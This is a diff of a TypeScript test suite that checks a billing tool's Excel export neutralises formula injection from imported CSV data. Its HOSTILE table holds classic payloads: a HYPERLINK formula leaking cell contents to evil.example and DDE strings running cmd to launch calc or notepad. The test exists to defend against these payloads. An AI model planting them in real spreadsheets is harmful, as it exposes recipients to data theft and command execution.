@@ -17,10 +17,10 @@ const PERIOD = '2021-03';
 /** Classic formula-injection payloads (OWASP "CSV injection"), one per leading character and more. */
 const HOSTILE = {
   hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
-  plus: '+cmd|\' /C calc\'!A0',
+  plus: "+cmd|' /C calc'!A0",
   minus: '-2+3',
   at: '@SUM(A1)',
-  dde: '=cmd|\' /C notepad\'!A1',
+  dde: "=cmd|' /C notepad'!A1",
   tabEq: '\t=1+1',
   crEq: '\r=1+1',
   fullwidth: '＝1+1',
@@ -45,16 +45,80 @@ const csvCell = (s: string) => (/[",\r\n\t]/.test(s) ? `"${s.replace(/"/g, '""')
 
 beforeAll(async () => {
   dir = tempDir('security');
-  const header = 'owner_id,item_type,item_id,item_name,instance_id,price_id,flavor_name,zone_id,consumption_start,consumption_end,quantity,unit,plan_id,description,unit_price,currency';
+  const header =
+    'owner_id,item_type,item_id,item_name,instance_id,price_id,flavor_name,zone_id,consumption_start,consumption_end,quantity,unit,plan_id,description,unit_price,currency';
   const rows: string[] = [];
   const names = Object.values(HOSTILE);
   names.forEach((name, i) => {
     const day = String(2 + i).padStart(2, '0');
     // item_name hostile; item_id and instance_id hostile too (they reach Lines and Details).
-    rows.push([OWNER, 'uptime', i === 0 ? '@app-id' : `app_${i}`, name, i === 0 ? '-instance' : `=inst${i}`, 'apps.XS', 'XS', 'par', `2021-03-${day}T10:00:00+01:00`, `2021-03-${day}T12:30:00+01:00`, '', '', '', '', '', ''].map(csvCell).join(','));
-    rows.push([OWNER, 'build', i === 0 ? '@app-id' : `app_${i}`, name, `+build${i}`, 'apps.XL', 'XL', 'par', `2021-03-${day}T09:50:00+01:00`, `2021-03-${day}T09:59:00+01:00`, '', '', '', '', '', ''].map(csvCell).join(','));
+    rows.push(
+      [
+        OWNER,
+        'uptime',
+        i === 0 ? '@app-id' : `app_${i}`,
+        name,
+        i === 0 ? '-instance' : `=inst${i}`,
+        'apps.XS',
+        'XS',
+        'par',
+        `2021-03-${day}T10:00:00+01:00`,
+        `2021-03-${day}T12:30:00+01:00`,
+        '',
+        '',
+        '',
+        '',
+        '',
+        '',
+      ]
+        .map(csvCell)
+        .join(','),
+    );
+    rows.push(
+      [
+        OWNER,
+        'build',
+        i === 0 ? '@app-id' : `app_${i}`,
+        name,
+        `+build${i}`,
+        'apps.XL',
+        'XL',
+        'par',
+        `2021-03-${day}T09:50:00+01:00`,
+        `2021-03-${day}T09:59:00+01:00`,
+        '',
+        '',
+        '',
+        '',
+        '',
+        '',
+      ]
+        .map(csvCell)
+        .join(','),
+    );
   });
-  rows.push([OWNER, 'classic', '=task-1', 'support', '', '', '', 'par', '2021-03-20T10:00:00+01:00', '2021-03-20T11:00:00+01:00', '1', 'hour', '', HOSTILE.at, '90.00', 'EUR'].map(csvCell).join(','));
+  rows.push(
+    [
+      OWNER,
+      'classic',
+      '=task-1',
+      'support',
+      '',
+      '',
+      '',
+      'par',
+      '2021-03-20T10:00:00+01:00',
+      '2021-03-20T11:00:00+01:00',
+      '1',
+      'hour',
+      '',
+      HOSTILE.at,
+      '90.00',
+      'EUR',
+    ]
+      .map(csvCell)
+      .join(','),
+  );
   const csv = path.join(dir, FILE_NAME);
   fs.writeFileSync(csv, `${header}\n${rows.join('\n')}\n`);
   out = path.join(dir, 'export.xlsx');
@@ -62,18 +126,22 @@ beforeAll(async () => {
   const core = openCore(path.join(dir, 'ws.sqlite'));
   try {
     await call(core, 'settings.update', { actor: ACTOR });
-    const imp = await call<{ results: { ok: boolean; error?: string }[] }>(core, 'import.commit', { files: [path.join(ROOT, 'resources/sample/catalog-2021.json'), csv] });
+    const imp = await call<{ results: { ok: boolean; error?: string }[] }>(core, 'import.commit', {
+      files: [path.join(ROOT, 'resources/sample/catalog-2021.json'), csv],
+    });
     expect(imp.results.map((r) => r.error ?? 'ok')).toEqual(['ok', 'ok']);
     await call(core, 'rate.run', { period: PERIOD });
     const page = await call<{ rows: { key: string }[] }>(core, 'lines.list', { period: PERIOD, ownerId: OWNER, limit: 50 });
-    for (const [i, text] of names.entries()) await call(core, 'lines.annotate', { period: PERIOD, ownerId: OWNER, lineKey: page.rows[i % page.rows.length]!.key, text });
+    for (const [i, text] of names.entries())
+      await call(core, 'lines.annotate', { period: PERIOD, ownerId: OWNER, lineKey: page.rows[i % page.rows.length]!.key, text });
     await call(core, 'lines.setReview', { period: PERIOD, ownerId: OWNER, lineKeys: [page.rows[0]!.key], state: 'disputed' });
     await call(core, 'export.workbook', { period: PERIOD, ownerId: OWNER, out });
   } finally {
     core.close();
   }
   const zip = await JSZip.loadAsync(fs.readFileSync(out));
-  for (const name of Object.keys(zip.files).filter((n) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n))) xml[name] = await zip.file(name)!.async('string');
+  for (const name of Object.keys(zip.files).filter((n) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n)))
+    xml[name] = await zip.file(name)!.async('string');
   wb = new ExcelJS.Workbook();
   await wb.xlsx.readFile(out);
 }, 60_000);
@@ -84,14 +152,19 @@ afterAll(() => {
 
 const decodeXml = (s: string) =>
   s.replace(/&(lt|gt|quot|apos|amp|#x([0-9a-fA-F]+)|#(\d+));/g, (_m, name: string, hex?: string, dec?: string) =>
-    hex ? String.fromCodePoint(parseInt(hex, 16)) : dec ? String.fromCodePoint(Number(dec)) : ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as Record<string, string>)[name]!,
+    hex
+      ? String.fromCodePoint(parseInt(hex, 16))
+      : dec
+        ? String.fromCodePoint(Number(dec))
+        : ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as Record<string, string>)[name]!,
   );
 
 /** Every formula (<f>) in every sheet, decoded. */
 function formulas(): { sheet: string; cell: string; formula: string }[] {
   const found: { sheet: string; cell: string; formula: string }[] = [];
   for (const [sheet, text] of Object.entries(xml)) {
-    for (const m of text.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*?<f>((?:(?!<\/f>).)*)<\/f>/gs)) found.push({ sheet, cell: m[1]!, formula: decodeXml(m[2]!) });
+    for (const m of text.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*?<f>((?:(?!<\/f>).)*)<\/f>/gs))
+      found.push({ sheet, cell: m[1]!, formula: decodeXml(m[2]!) });
   }
   return found;
 }
@@ -135,7 +208,10 @@ describe('workbook text cells stay text (formula injection)', () => {
     for (const { sheet, cell, formula } of all) {
       // The writer's formulas: ROUND/SUM over cell references, nothing else.
       expect(formula, `${sheet} ${cell}`).toMatch(/^ROUND\(/);
-      const rest = formula.replace(/\b(ROUND|SUM)\(/g, '(').replace(/(Lines!)?\$?[A-Z]{1,3}\$?\d+/g, '').replace(/\d+(\.\d+)?/g, '');
+      const rest = formula
+        .replace(/\b(ROUND|SUM)\(/g, '(')
+        .replace(/(Lines!)?\$?[A-Z]{1,3}\$?\d+/g, '')
+        .replace(/\d+(\.\d+)?/g, '');
       expect(rest, `${sheet} ${cell}: ${formula}`).toMatch(/^[(),:+\-*/ ]*$/);
       for (const word of ['HYPERLINK', 'cmd', 'calc', 'notepad', 'A0']) expect(formula).not.toContain(word);
     }
